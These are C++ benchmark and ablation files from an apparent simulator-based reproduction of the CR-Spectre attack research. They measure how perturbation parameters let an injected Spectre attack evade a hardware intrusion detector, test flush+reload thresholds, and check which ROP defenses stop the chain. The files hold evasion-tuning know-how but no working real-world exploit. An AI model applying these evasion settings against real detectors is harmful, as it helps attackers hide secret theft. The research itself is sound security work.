