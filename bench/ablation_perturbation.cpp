// Ablation: which perturbation ingredients drive evasion?
//
// Holds the offline MLP HID fixed and sweeps Algorithm-2 parameters:
// dispersal length (delay), mimicry style, ladder intensity (loop count),
// and the interleave interval. Reports per-configuration detection rate —
// the design study behind the variant mutator's parameter ranges.
#include <cstdio>

#include "bench_util.hpp"
#include "core/campaign.hpp"
#include "hid/features.hpp"
#include "support/table.hpp"

int main(int argc, char** argv) {
  using namespace crs;
  bench::BenchIo io(argc, argv);
  bench::WallTimer timer;
  bench::print_header("Ablation — perturbation parameters vs evasion",
                      "design study for Algorithm 2 / §II-E");

  core::CorpusConfig cc = bench::paper_corpus_config();
  cc.windows_per_class = 1200;
  const auto benign = core::build_benign_corpus(cc);
  const auto attack = core::build_attack_corpus(cc);

  hid::DetectorConfig dc;
  dc.classifier = "MLP";
  dc.features = hid::paper_feature_indices();
  hid::HidDetector det(dc);
  ml::Dataset init = benign;
  init.append_all(attack);
  det.fit(init);

  auto measure = [&](const perturb::PerturbParams& params, bool perturb_on) {
    core::ScenarioConfig sc;
    sc.rop_injected = true;
    sc.perturb = perturb_on;
    sc.perturb_params = params;
    sc.host_scale = 8000;
    sc.seed = 4242;
    const auto run = core::run_scenario(sc);
    return std::pair<double, bool>(det.detection_rate(run.attack_windows),
                                   run.secret_recovered);
  };

  Table table({"configuration", "detection", "secret leaked"});
  const auto add = [&](const std::string& name,
                       const perturb::PerturbParams& p, bool on) {
    const auto [rate, ok] = measure(p, on);
    table.add_row({name, bench::pct(rate) + "%", ok ? "yes" : "no"});
    return rate;
  };

  perturb::PerturbParams base;  // paper Algorithm 2 defaults
  const double none = add("no perturbation (plain injected Spectre)", base,
                          false);
  const double algo2 = add("Algorithm 2 only (a=11 b=6 n=10, no dispersal)",
                           base, true);

  double best_diluted = 1.0;
  for (const int delay : {100, 500, 1000, 2000, 4000}) {
    perturb::PerturbParams p = base;
    p.loop_count = 16;
    p.delay = delay;
    best_diluted = std::min(
        best_diluted, add("dispersal delay=" + std::to_string(delay), p, true));
  }
  for (int style = 0; style < 4; ++style) {
    perturb::PerturbParams p = base;
    p.loop_count = 16;
    p.delay = 2000;
    p.style = static_cast<perturb::MimicStyle>(style);
    add("style=" + perturb::mimic_style_name(p.style) + " (delay=2000)", p,
        true);
  }
  for (const int n : {6, 16, 28}) {
    perturb::PerturbParams p = base;
    p.loop_count = n;
    p.delay = 1000;
    add("ladder loop_count=" + std::to_string(n) + " (delay=1000)", p, true);
  }

  std::printf("%s\n", table.render().c_str());
  bench::shape_check(
      "plain injected Spectre is still detected (cloak alone insufficient)",
      none > 0.80);
  bench::shape_check(
      "pure Algorithm-2 contamination is not enough against this HID",
      algo2 > 0.55);
  bench::shape_check(
      "dispersal-diluted variants evade (<55%, reaching paper-level lows)",
      best_diluted < 0.55);
  io.emit("ablation_perturbation", timer.ms(), 1e3 / timer.ms());
  return 0;
}
