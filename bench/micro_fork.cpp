// Micro-benchmarks of the copy-on-write fork engine (google-benchmark).
//
// BM_MachineFork is the headline number: machines replicated per second,
// with Arg(1) forking the shared frozen baseline (O(metadata) + promoted
// pages) and Arg(0) paying the full Machine(config) construction — the
// 16 MB zero-fill plus cache/predictor allocation that population-scale
// fan-out used to pay per session. BM_SessionResidentBytes reports the
// per-session private footprint after a real workload run (manual time is
// pinned to 1 s/iteration, so items_per_s IS mean resident bytes — exact
// and machine-independent); the perf-smoke gate bounds fork residency to
// well under half the private-mode machine. BM_SessionFanout measures the
// end-to-end unit campaign drivers replicate — ScenarioSession build plus
// one attempt — with the cow engine on and off.
#include <benchmark/benchmark.h>

#include <memory>

#include "bench_json_reporter.hpp"
#include "core/scenario.hpp"
#include "sim/snapshot.hpp"
#include "support/memo.hpp"
#include "workloads/workloads.hpp"

namespace {

using namespace crs;

void BM_MachineFork(benchmark::State& state) {
  const bool cow = state.range(0) != 0;
  const sim::MachineConfig config;
  const auto base = sim::shared_baseline(config);
  for (auto _ : state) {
    if (cow) {
      sim::Machine machine(*base);
      benchmark::DoNotOptimize(machine.memory().is_cow());
    } else {
      sim::Machine machine(config);
      benchmark::DoNotOptimize(machine.memory().is_cow());
    }
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_MachineFork)->Arg(1)->Arg(0)->Unit(benchmark::kMicrosecond);

/// Runs one short real workload on a fresh machine and reports the bytes of
/// page data the machine privately owns afterwards: the whole flat store in
/// private mode, promoted frames only for a fork.
void BM_SessionResidentBytes(benchmark::State& state) {
  const bool cow = state.range(0) != 0;
  const sim::MachineConfig config;
  const auto base = sim::shared_baseline(config);
  std::int64_t bytes = 0;
  for (auto _ : state) {
    auto machine = cow ? std::make_unique<sim::Machine>(*base)
                       : std::make_unique<sim::Machine>(config);
    sim::Kernel kernel(*machine);
    workloads::WorkloadOptions opt;
    opt.scale = 4;
    kernel.register_binary("/bin/w", workloads::build_workload("basicmath", opt));
    kernel.start_with_strings("/bin/w", {"benign"});
    kernel.run(200'000'000);
    bytes += static_cast<std::int64_t>(machine->memory().resident_bytes());
    state.SetIterationTime(1.0);  // 1 s/iter: items_per_s == resident bytes
  }
  state.SetItemsProcessed(bytes);
}
BENCHMARK(BM_SessionResidentBytes)
    ->Arg(1)
    ->Arg(0)
    ->UseManualTime()
    ->Unit(benchmark::kMillisecond);

core::ScenarioConfig fanout_config() {
  core::ScenarioConfig config;
  config.host = "basicmath";
  config.host_scale = 60;  // short attempts: replication-dominated
  config.secret = "CRS!";
  config.rop_injected = true;
  config.perturb = true;
  config.seed = 42;
  return config;
}

/// The unit campaign drivers replicate per worker: build a ScenarioSession
/// (machine + kernel + memoized binaries) and run one attempt.
void BM_SessionFanout(benchmark::State& state) {
  const bool cow = state.range(0) != 0;
  const bool prev = cow_enabled();
  set_cow_enabled(cow);
  const core::ScenarioConfig config = fanout_config();
  core::warm_scenario_memo(config);  // isolate replication from first-build
  std::uint64_t seed = config.seed;
  for (auto _ : state) {
    core::ScenarioSession session(config);
    const auto run = session.run_attempt(seed++);
    benchmark::DoNotOptimize(run.attack_launched);
  }
  set_cow_enabled(prev);
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_SessionFanout)->Arg(1)->Arg(0)->Unit(benchmark::kMillisecond);

}  // namespace

int main(int argc, char** argv) {
  return crs::bench::run_micro_benchmarks(argc, argv);
}
