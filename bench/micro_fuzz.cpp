// Micro-benchmarks of the differential fuzzing subsystem: how many random
// programs the generator emits per second and how many full oracle checks
// the fuzzer sustains — the campaign throughput that bounds how much ISA
// surface a CI fuzz budget actually covers.
#include <benchmark/benchmark.h>

#include "bench_json_reporter.hpp"
#include "casm/assembler.hpp"
#include "casm/runtime.hpp"
#include "fuzz/differ.hpp"
#include "fuzz/generator.hpp"
#include "support/parallel.hpp"
#include "support/rng.hpp"

namespace {

using namespace crs;

void BM_FuzzGenerate(benchmark::State& state) {
  std::uint64_t i = 0;
  std::size_t lines = 0;
  for (auto _ : state) {
    Rng rng(derive_seed(1, i++));
    const auto program = fuzz::generate_program(rng);
    lines += program.lines.size();
    benchmark::DoNotOptimize(program);
  }
  state.SetItemsProcessed(static_cast<std::int64_t>(state.iterations()));
  state.counters["lines_per_program"] =
      benchmark::Counter(static_cast<double>(lines) /
                         static_cast<double>(state.iterations()));
}
BENCHMARK(BM_FuzzGenerate)->Unit(benchmark::kMicrosecond);

void BM_FuzzAssemble(benchmark::State& state) {
  std::uint64_t i = 0;
  for (auto _ : state) {
    Rng rng(derive_seed(2, i++));
    const auto program = fuzz::generate_program(rng);
    casm::AssembleOptions opt;
    opt.name = "fuzz";
    opt.link_base = 0x10000;
    const auto binary =
        casm::assemble(program.source() + casm::runtime_library(), opt);
    benchmark::DoNotOptimize(binary);
  }
  state.SetItemsProcessed(static_cast<std::int64_t>(state.iterations()));
}
BENCHMARK(BM_FuzzAssemble)->Unit(benchmark::kMicrosecond);

// One full fuzz iteration: generate + assemble + execute under every
// standard config + cross-compare + invariants. items/s here is directly
// the `crs_fuzz` campaign rate.
void BM_FuzzDifferentialCheck(benchmark::State& state) {
  std::uint64_t i = 0;
  int divergences = 0;
  for (auto _ : state) {
    Rng rng(derive_seed(3, i++));
    fuzz::GeneratorOptions opt;
    opt.allow_rdcycle = (i % 2) == 1;
    opt.allow_smc = (i % 3) == 0;
    const auto program = fuzz::generate_program(rng, opt);
    if (fuzz::check_program(program)) ++divergences;
  }
  state.SetItemsProcessed(static_cast<std::int64_t>(state.iterations()));
  state.counters["divergences"] =
      benchmark::Counter(static_cast<double>(divergences));
}
BENCHMARK(BM_FuzzDifferentialCheck)->Unit(benchmark::kMillisecond);

}  // namespace

int main(int argc, char** argv) {
  return crs::bench::run_micro_benchmarks(argc, argv);
}
