// Ablation: covert-channel receiver design.
//
// Sweeps the flush+reload classification threshold and compares against
// the min-latency receiver. With L1/L2/memory latencies of 3/14/120
// cycles, any threshold between the hit and miss bands recovers the secret
// perfectly; thresholds below the hit band or above the miss band fail.
// Reports per-threshold byte accuracy.
#include <cstdio>

#include "attack/spectre.hpp"
#include "bench_util.hpp"
#include "sim/kernel.hpp"
#include "support/table.hpp"

namespace {

double byte_accuracy(const std::string& recovered, const std::string& truth) {
  std::size_t hits = 0;
  for (std::size_t i = 0; i < truth.size(); ++i) {
    if (i < recovered.size() && recovered[i] == truth[i]) ++hits;
  }
  return static_cast<double>(hits) / static_cast<double>(truth.size());
}

}  // namespace

int main(int argc, char** argv) {
  using namespace crs;
  bench::BenchIo io(argc, argv);
  bench::WallTimer timer;
  bench::print_header("Ablation — covert-channel receiver",
                      "design study: threshold vs min-latency recovery");

  const std::string secret = "FLUSH+RELOAD CHANNEL TEST/42";
  auto run_with = [&](attack::RecoveryMode mode, std::uint32_t threshold) {
    attack::AttackConfig cfg;
    cfg.recovery = mode;
    cfg.threshold = threshold;
    cfg.embed_secret = secret;
    cfg.secret_length = static_cast<std::uint32_t>(secret.size());
    sim::Machine machine;
    sim::Kernel kernel(machine);
    kernel.register_binary("/bin/a", attack::build_attack_binary(cfg));
    kernel.start_with_strings("/bin/a", {});
    kernel.run(1'000'000'000);
    return byte_accuracy(kernel.output_string(), secret);
  };

  Table table({"receiver", "byte accuracy"});
  const double minlat = run_with(attack::RecoveryMode::kMinLatency, 0);
  table.add_row({"min-latency scan", bench::pct(minlat) + "%"});

  bool band_works = true;
  bool extremes_fail = true;
  for (const std::uint32_t th : {2u, 5u, 10u, 20u, 40u, 60u, 100u, 118u, 200u}) {
    const double acc = run_with(attack::RecoveryMode::kThreshold, th);
    table.add_row({"threshold " + std::to_string(th), bench::pct(acc) + "%"});
    const auto& t = sim::HierarchyConfig().timings;
    if (th > t.l2_hit && th < t.memory && acc < 0.999) band_works = false;
    if ((th <= t.l1_hit || th > t.memory) && acc > 0.5) extremes_fail = false;
  }
  std::printf("%s\n", table.render().c_str());

  bench::shape_check("min-latency receiver recovers every byte", minlat > 0.999);
  bench::shape_check(
      "any threshold between the L2-hit and memory bands is perfect",
      band_works);
  bench::shape_check("thresholds outside the latency bands fail",
                     extremes_fail);
  io.emit("ablation_covert_channel", timer.ms(), 1e3 / timer.ms());
  return 0;
}
