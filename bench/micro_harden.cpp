// Micro-benchmarks of the host-hardening subsystem: what the hardening
// presets cost a benign host (the canary epilogue checks and the relocated
// loader paths must stay cheap enough to leave on everywhere), and how fast
// the speculative-probing leak stage defeats full hardening end to end.
//
// The perf-smoke baselines gate two things here:
//   * overhead ratios — hardened benign throughput over unhardened must not
//     collapse (canary >= 0.80x, full >= 0.65x of the none-preset rate);
//   * probe leak rate — BM_ProbeLeakRate counts only *successful* leak-stage
//     attacks (probe found the base AND the patched payload recovered the
//     secret) as items, so a broken probe drives items/s to zero and trips
//     the absolute floor.
#include <benchmark/benchmark.h>

#include <string>

#include "bench_json_reporter.hpp"
#include "core/scenario.hpp"
#include "harden/config.hpp"
#include "hid/profiler.hpp"
#include "sim/kernel.hpp"
#include "support/rng.hpp"
#include "workloads/workloads.hpp"

namespace {

using namespace crs;

const char* preset_for_arg(std::int64_t arg) {
  // Stable arg -> preset map (mirrors harden::preset_names() display order).
  switch (arg) {
    case 0: return "none";
    case 1: return "canary";
    case 2: return "aslr";
    default: return "full";
  }
}

// One benign host run per iteration under a hardening preset. Arg 0 is the
// unhardened baseline the overhead ratio gates divide by.
void BM_HardenedBenign(benchmark::State& state) {
  const auto harden = harden::preset(preset_for_arg(state.range(0)));
  workloads::WorkloadOptions wopt;
  wopt.scale = 4000;
  wopt.secret = "BENCH-SECRET";
  wopt.canary = harden.canary;
  const auto binary = workloads::build_workload("basicmath", wopt);
  Rng rng(2026);
  for (auto _ : state) {
    sim::KernelConfig kcfg;
    kcfg.seed = rng.next_u64();
    harden.apply(kcfg);
    sim::Machine machine;
    sim::Kernel kernel(machine, kcfg);
    kernel.register_binary("/bin/app", binary);
    const auto profile = hid::profile_run_strings(
        kernel, "/bin/app", {"basicmath", "benign-input"}, {});
    if (profile.stop != sim::StopReason::kHalted) {
      state.SkipWithError("hardened benign run did not halt");
      return;
    }
    benchmark::DoNotOptimize(profile);
  }
  state.SetItemsProcessed(static_cast<std::int64_t>(state.iterations()));
  state.SetLabel(preset_for_arg(state.range(0)));
}
BENCHMARK(BM_HardenedBenign)
    ->Arg(0)
    ->Arg(1)
    ->Arg(2)
    ->Arg(3)
    ->Unit(benchmark::kMillisecond);

// Full leak-stage attack against the full hardening preset, fresh seed every
// iteration (fresh ASLR deltas + canary). Items = successful end-to-end
// leaks only, so items/s is the probe leak *rate* scaled by run cost.
void BM_ProbeLeakRate(benchmark::State& state) {
  core::ScenarioConfig cfg;
  cfg.host = "basicmath";
  cfg.host_scale = 2000;
  cfg.secret = "HARDEN-SECRET-16";
  cfg.rop_injected = true;
  cfg.harden = harden::preset("full");
  cfg.leak_stage = true;
  std::uint64_t seed = 5000;
  std::int64_t leaks = 0;
  for (auto _ : state) {
    cfg.seed = seed++;
    const auto run = core::run_scenario(cfg);
    if (run.leak_stage_ran && run.secret_recovered) ++leaks;
    benchmark::DoNotOptimize(run);
  }
  state.SetItemsProcessed(leaks);
  state.counters["leak_rate"] = benchmark::Counter(
      state.iterations() == 0
          ? 0.0
          : static_cast<double>(leaks) / static_cast<double>(state.iterations()));
}
BENCHMARK(BM_ProbeLeakRate)->Unit(benchmark::kMillisecond);

}  // namespace

int main(int argc, char** argv) {
  return crs::bench::run_micro_benchmarks(argc, argv);
}
