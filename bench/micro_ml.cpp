// Micro-benchmarks of the ML library (google-benchmark).
#include <benchmark/benchmark.h>

#include "bench_json_reporter.hpp"
#include "ml/dataset.hpp"
#include "ml/linear.hpp"
#include "ml/mlp.hpp"
#include "support/rng.hpp"

namespace {

using namespace crs;

ml::Dataset blobs(std::size_t n, std::size_t dims, std::uint64_t seed) {
  Rng rng(seed);
  ml::Dataset d;
  std::vector<double> row(dims);
  for (std::size_t i = 0; i < n; ++i) {
    const int label = static_cast<int>(i % 2);
    for (auto& v : row) v = rng.next_gaussian(label * 3.0, 1.0);
    d.append(row, label);
  }
  return d;
}

void BM_LogisticFit(benchmark::State& state) {
  const auto d = blobs(2000, 6, 1);
  for (auto _ : state) {
    ml::LogisticRegression lr;
    lr.fit(d.x, d.y);
    benchmark::DoNotOptimize(lr.bias());
  }
}
BENCHMARK(BM_LogisticFit)->Unit(benchmark::kMillisecond);

void BM_SvmFit(benchmark::State& state) {
  const auto d = blobs(2000, 6, 2);
  for (auto _ : state) {
    ml::LinearSvm svm;
    svm.fit(d.x, d.y);
    benchmark::DoNotOptimize(svm.margin(d.x.row(0)));
  }
}
BENCHMARK(BM_SvmFit)->Unit(benchmark::kMillisecond);

void BM_MlpFit(benchmark::State& state) {
  const auto d = blobs(1000, 6, 3);
  for (auto _ : state) {
    ml::Mlp mlp(ml::mlp3_config());
    mlp.fit(d.x, d.y);
    benchmark::DoNotOptimize(mlp.parameter_count());
  }
}
BENCHMARK(BM_MlpFit)->Unit(benchmark::kMillisecond);

void BM_MlpPartialFit(benchmark::State& state) {
  const auto d = blobs(1000, 6, 4);
  const auto batch = blobs(300, 6, 5);
  ml::Mlp mlp(ml::mlp3_config());
  mlp.fit(d.x, d.y);
  for (auto _ : state) {
    mlp.partial_fit(batch.x, batch.y);
  }
}
BENCHMARK(BM_MlpPartialFit)->Unit(benchmark::kMillisecond);

void BM_MlpPredict(benchmark::State& state) {
  const auto d = blobs(1000, 6, 6);
  ml::Mlp mlp(ml::nn6_config());
  mlp.fit(d.x, d.y);
  std::size_t i = 0;
  for (auto _ : state) {
    benchmark::DoNotOptimize(mlp.predict_proba(d.x.row(i)));
    i = (i + 1) % d.size();
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_MlpPredict);

// Dense square matmul across sizes (items = multiply-accumulates), tracking
// the blocked + transposed Matrix::multiply.
void BM_MatrixMultiply(benchmark::State& state) {
  const auto n = static_cast<std::size_t>(state.range(0));
  Rng rng(42);
  ml::Matrix a(n, n);
  ml::Matrix b(n, n);
  for (auto& v : a.data()) v = rng.next_gaussian(0.0, 1.0);
  for (auto& v : b.data()) v = rng.next_gaussian(0.0, 1.0);
  for (auto _ : state) {
    benchmark::DoNotOptimize(a.multiply(b));
  }
  state.SetItemsProcessed(state.iterations() *
                          static_cast<std::int64_t>(n * n * n));
}
BENCHMARK(BM_MatrixMultiply)
    ->Arg(32)
    ->Arg(128)
    ->Arg(256)
    ->Unit(benchmark::kMicrosecond);

void BM_FisherSelection(benchmark::State& state) {
  const auto d = blobs(4000, 26, 7);
  for (auto _ : state) {
    benchmark::DoNotOptimize(ml::top_k_features(d, 4));
  }
}
BENCHMARK(BM_FisherSelection)->Unit(benchmark::kMicrosecond);

}  // namespace

int main(int argc, char** argv) {
  return crs::bench::run_micro_benchmarks(argc, argv);
}
