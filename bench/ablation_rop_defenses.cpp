// Ablation: architectural ROP defenses vs the injection chain (paper §I).
//
// The paper discusses Stack Canaries and ASLR as classic ROP mitigations
// (noting both can be bypassed on real systems). This bench runs the full
// CR-Spectre injection against every combination across multiple hosts and
// reports what stops the chain and how:
//   - no defense      → execve fires, the secret is stolen, host resumes;
//   - stack canary    → the overflow corrupts the canary; the process is
//                       killed before the chain runs;
//   - ASLR            → the payload's link-time gadget addresses miss; the
//                       chain faults before execve.
#include <cstdio>

#include "bench_util.hpp"
#include "core/scenario.hpp"
#include "support/table.hpp"

int main(int argc, char** argv) {
  using namespace crs;
  bench::BenchIo io(argc, argv);
  bench::WallTimer timer;
  bench::print_header("Ablation — architectural ROP defenses",
                      "paper §I: Stack Canaries / ASLR vs the overflow chain");

  Table table({"host", "defenses", "execve fired", "secret stolen",
               "host completed"});
  bool undefended_all_stolen = true;
  bool defended_none_stolen = true;

  for (const char* host : {"basicmath", "crc32", "stringsearch"}) {
    for (int mode = 0; mode < 3; ++mode) {
      core::ScenarioConfig sc;
      sc.host = host;
      sc.host_scale = 3000;
      sc.rop_injected = true;
      sc.canary = mode == 1;
      sc.aslr = mode == 2;
      sc.seed = 7000 + mode;
      const auto run = core::run_scenario(sc);

      const bool stolen = run.secret_recovered;
      if (mode == 0 && !stolen) undefended_all_stolen = false;
      if (mode != 0 && stolen) defended_none_stolen = false;

      table.add_row({host,
                     mode == 0   ? "none"
                     : mode == 1 ? "stack canary"
                                 : "ASLR",
                     run.attack_launched ? "yes" : "no",
                     stolen ? "YES" : "no",
                     run.profile.stop == sim::StopReason::kHalted
                         ? "yes"
                         : "killed"});
    }
  }
  std::printf("%s\n", table.render().c_str());
  bench::shape_check("every undefended host is fully compromised",
                     undefended_all_stolen);
  bench::shape_check(
      "either classic defense stops the chain on every host "
      "(the paper's §I premise before discussing their known bypasses)",
      defended_none_stolen);
  io.emit("ablation_rop_defenses", timer.ms(), 1e3 / timer.ms());
  return 0;
}
