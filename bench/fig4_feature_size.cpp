// Figure 4: HID accuracy vs feature size for four host applications.
//
// Paper setting (§III-B1): classify Spectre (averaged over variants)
// against MiBench application i plus the other benign applications, with
// feature sizes {16, 8, 4, 2, 1}; 2000 samples per class, 70/30 split.
// Expected shape: >80% for sizes >= 2; >90% at size 4 (the chosen runtime
// configuration); the paper additionally reports size 1 as inefficient —
// see EXPERIMENTS.md for why this reproduction stays high there.
#include <cstdio>

#include "bench_util.hpp"
#include "ml/dataset.hpp"
#include "support/rng.hpp"
#include "workloads/workloads.hpp"
#include "hid/detector.hpp"
#include "hid/features.hpp"
#include "support/table.hpp"

int main(int argc, char** argv) {
  using namespace crs;
  bench::BenchIo io(argc, argv);
  bench::WallTimer timer;
  bench::print_header("Fig. 4 — HID accuracy vs feature size",
                      "Figure 4 (Spectre_1..4 bars, feature sizes 16/8/4/2/1)");

  // The §III-B1 claim: a larger event inventory exists offline.
  std::printf("PMU inventory: %zu modelled events (+2 derived aggregates) — "
              "the paper's testbed exposes 56.\n",
              sim::kEventCount);
  std::printf("PMU-visible feature pool for the detector: %zu\n\n",
              hid::detector_visible_features().size());

  const char* hosts[] = {"basicmath", "bitcount", "sha", "qsort"};
  const std::size_t sizes[] = {16, 8, 4, 2, 1};

  Table table({"host (Spectre_i)", "k=16", "k=8", "k=4", "k=2", "k=1"});
  double min_k4 = 1.0, min_k2 = 1.0;

  for (int hi = 0; hi < 4; ++hi) {
    core::CorpusConfig cc = bench::paper_corpus_config();
    // Benign class: the host itself + the browser/editor-style pool.
    cc.benign_apps = {hosts[hi]};
    for (const auto& w : workloads::benign_pool_catalog()) {
      cc.benign_apps.push_back(w.name);
    }
    cc.seed = 1000 + hi;
    const auto benign = core::build_benign_corpus(cc);
    const auto attack = core::build_attack_corpus(cc);

    ml::Dataset all = benign;
    all.append_all(attack);
    Rng rng(42);
    const auto split = ml::train_test_split(all, 0.7, rng);

    // Each feature size trains its own detector from the same split: the
    // five fits are independent, so run them on the pool (results land in
    // size order regardless of thread count).
    ThreadPool pool;
    const auto accs = parallel_map<double>(
        pool, std::size(sizes), [&](std::size_t si) {
          hid::DetectorConfig dc;
          dc.classifier = "MLP";
          dc.feature_count = sizes[si];
          hid::HidDetector det(dc);
          det.fit(split.train);
          return det.evaluate(split.test).balanced_accuracy();
        });

    std::vector<std::string> row{std::string(hosts[hi])};
    for (std::size_t si = 0; si < std::size(sizes); ++si) {
      const double acc = accs[si];
      row.push_back(bench::pct(acc));
      if (sizes[si] == 4) min_k4 = std::min(min_k4, acc);
      if (sizes[si] == 2) min_k2 = std::min(min_k2, acc);
    }
    table.add_row(row);
  }
  std::printf("%s\n", table.render().c_str());
  std::printf("(balanced accuracy %%, MLP detector, Fisher top-k features,\n"
              " Spectre averaged over pht/rsb/stride variants)\n\n");

  bench::shape_check(">80% accuracy for every host at feature size >= 2",
                     min_k2 > 0.80);
  bench::shape_check(">90% accuracy at the paper's chosen size 4",
                     min_k4 > 0.90);
  // 4 hosts x 5 feature sizes = 20 detector fits.
  io.emit("fig4_feature_size", timer.ms(), 20.0 / (timer.ms() / 1e3));
  return 0;
}
