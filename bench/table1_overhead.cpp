// Table I: IPC overhead of CR-Spectre on the host's own work.
//
// Paper setting (§III-C): IPC of the original application vs the
// application with CR-Spectre injected, under offline-type (static
// perturbation) and online-type (dynamic perturbation) HIDs; values
// averaged over repeated runs. Expected shape: overhead is negligible
// (paper: 0.6% offline / 1.1% online on average) and bitcount has the
// highest IPC of the three applications. Absolute IPCs differ (scalar
// in-order-ish core vs the paper's superscalar i5; see EXPERIMENTS.md).
#include <cmath>
#include <cstdio>

#include "bench_util.hpp"
#include "core/overhead.hpp"
#include "support/table.hpp"

int main(int argc, char** argv) {
  using namespace crs;
  bench::BenchIo io(argc, argv);
  bench::WallTimer timer;
  bench::print_header("Table I — performance overhead in evaluated benchmarks",
                      "Table I (Math, Bitcount 50M/100M, SHA 1/2)");

  core::OverheadConfig cfg;
  cfg.repeats = 5;  // the paper averages 100 iterations on real hardware
  const auto rows = core::table_one(cfg);

  Table table({"Benchmark", "Original (IPC)", "CR-Spectre offline (IPC)",
               "CR-Spectre online (IPC)", "ovh off %", "ovh on %"});
  double sum_off = 0.0, sum_on = 0.0, max_abs = 0.0;
  double ipc_math = 0, ipc_bc = 0, ipc_sha = 0;
  for (const auto& r : rows) {
    table.add_row({r.label, fixed(r.original_ipc, 4), fixed(r.offline_ipc, 4),
                   fixed(r.online_ipc, 4), fixed(r.offline_overhead_pct, 2),
                   fixed(r.online_overhead_pct, 2)});
    sum_off += r.offline_overhead_pct;
    sum_on += r.online_overhead_pct;
    max_abs = std::max({max_abs, std::abs(r.offline_overhead_pct),
                        std::abs(r.online_overhead_pct)});
    if (r.label == "Math") ipc_math = r.original_ipc;
    if (r.label == "Bitcount 50M") ipc_bc = r.original_ipc;
    if (r.label == "SHA 1") ipc_sha = r.original_ipc;
  }
  std::printf("%s\n", table.render().c_str());
  double abs_off = 0.0, abs_on = 0.0;
  for (const auto& r : rows) {
    abs_off += std::abs(r.offline_overhead_pct);
    abs_on += std::abs(r.online_overhead_pct);
  }
  std::printf("average overhead magnitude: offline %.2f%%, online %.2f%% "
              "(paper: 0.6%% and 1.1%%)\n",
              abs_off / rows.size(), abs_on / rows.size());
  std::printf("signed means: offline %.2f%%, online %.2f%%. Negative = IPC "
              "rose (the paper's Table I likewise contains IPC increases,\n"
              "e.g. Bitcount 50M 3.041->3.05 and SHA 0.736->0.742: the "
              "injected work can blend at a higher IPC than the host's).\n\n",
              sum_off / rows.size(), sum_on / rows.size());

  bench::shape_check("overhead is negligible (<5% on every row)",
                     max_abs < 5.0);
  bench::shape_check("bitcount has the highest original IPC (paper: 3.04 "
                     "vs 1.94 Math / 0.74 SHA)",
                     ipc_bc > ipc_math && ipc_bc > ipc_sha);
  // 5 benchmark rows, each measured 3 ways (original/offline/online).
  io.emit("table1_overhead", timer.ms(), 15.0 / (timer.ms() / 1e3));
  return 0;
}
