// Ablation / countermeasure: incremental vs full-retrain online defender.
//
// The paper's online HID is a streaming learner; CR-Spectre's mutation
// stays ahead of its partial updates (Fig. 6b). This study swaps in a
// defender that retrains from scratch on the full accumulated dataset
// after every attempt — computationally heavier, but it remembers every
// previously seen variant. The moving-target advantage shrinks
// accordingly: a quantitative version of the paper's §IV observation that
// stronger analysis is needed to counter the attack.
#include <cstdio>

#include "bench_util.hpp"
#include "core/campaign.hpp"
#include "hid/features.hpp"
#include "support/table.hpp"

int main(int argc, char** argv) {
  using namespace crs;
  bench::BenchIo io(argc, argv);
  bench::WallTimer timer;
  bench::print_header("Ablation — online defender strength (countermeasure)",
                      "extends §IV: incremental vs full-retrain online HID");

  core::CorpusConfig cc = bench::paper_corpus_config();
  cc.windows_per_class = 1200;
  const auto benign = core::build_benign_corpus(cc);
  const auto attack = core::build_attack_corpus(cc);
  core::CorpusConfig ch = cc;
  ch.windows_per_class = 600;
  ch.seed = 31415;
  const auto holdout = core::build_benign_corpus(ch);

  Table table({"online mode", "per-attempt detection (10 attempts)", "mean",
               "evaded attempts", "final benign FPR"});
  double mean_incremental = 0.0, mean_full = 0.0;
  for (const auto mode :
       {hid::OnlineMode::kIncremental, hid::OnlineMode::kFullRetrain}) {
    core::CampaignConfig cfg;
    cfg.scenario.rop_injected = true;
    cfg.scenario.perturb = true;
    cfg.scenario.perturb_params.delay = 2000;
    cfg.scenario.perturb_params.loop_count = 16;
    cfg.detector.classifier = "MLP";
    cfg.detector.features = hid::paper_feature_indices();
    cfg.detector.online_mode = mode;
    cfg.online_hid = true;
    cfg.dynamic_perturbation = true;
    cfg.attempts = 10;
    cfg.seed = 4321;
    const auto r = core::run_campaign(cfg, benign, attack, &holdout);

    std::string series;
    int evaded = 0;
    for (const auto& a : r.attempts) {
      series += bench::pct(a.detection_rate) + (a.mutated_after ? "* " : " ");
      evaded += a.evaded ? 1 : 0;
    }
    table.add_row({mode == hid::OnlineMode::kIncremental ? "incremental"
                                                         : "full retrain",
                   series, bench::pct(r.mean_detection()),
                   std::to_string(evaded) + "/10",
                   bench::pct(r.attempts.back().benign_fpr) + "%"});
    (mode == hid::OnlineMode::kIncremental ? mean_incremental : mean_full) =
        r.mean_detection();
  }
  std::printf("%s\n", table.render().c_str());
  bench::shape_check(
      "full retraining is a stronger defense than incremental updates",
      mean_full >= mean_incremental);
  io.emit("ablation_online_mode", timer.ms(), 1e3 / timer.ms());
  return 0;
}
