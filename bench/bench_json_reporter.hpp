// google-benchmark reporter emitting the repo-wide perf-record format: one
// `{"name":...,"wall_ms":...,"items_per_s":...}` line per benchmark run,
// appended to the --bench-json file. Shared by micro_sim and micro_ml; the
// figure benches emit the same lines through bench::BenchIo directly.
#pragma once

#include <benchmark/benchmark.h>

#include <memory>

#include "bench_util.hpp"

namespace crs::bench {

/// Display reporter that forwards to the default console reporter and tees
/// every run into the JSON file. (A plain file_reporter would be ignored by
/// google-benchmark unless --benchmark_out is also given.)
class JsonTeeReporter : public benchmark::BenchmarkReporter {
 public:
  explicit JsonTeeReporter(const BenchIo& io)
      : io_(io), console_(benchmark::CreateDefaultDisplayReporter()) {}

  bool ReportContext(const Context& context) override {
    console_->SetOutputStream(&GetOutputStream());
    console_->SetErrorStream(&GetErrorStream());
    return console_->ReportContext(context);
  }

  void ReportRuns(const std::vector<Run>& runs) override {
    console_->ReportRuns(runs);
    for (const Run& run : runs) {
      if (run.error_occurred) continue;
      const double iters =
          run.iterations > 0 ? static_cast<double>(run.iterations) : 1.0;
      const double wall_ms = run.real_accumulated_time / iters * 1e3;
      double items_per_s = 0.0;
      const auto it = run.counters.find("items_per_second");
      if (it != run.counters.end()) items_per_s = it->second;
      io_.emit(run.benchmark_name(), wall_ms, items_per_s);
    }
  }

  void Finalize() override { console_->Finalize(); }

 private:
  const BenchIo& io_;
  std::unique_ptr<benchmark::BenchmarkReporter> console_;
};

/// Shared main body for the google-benchmark binaries: strips the repo
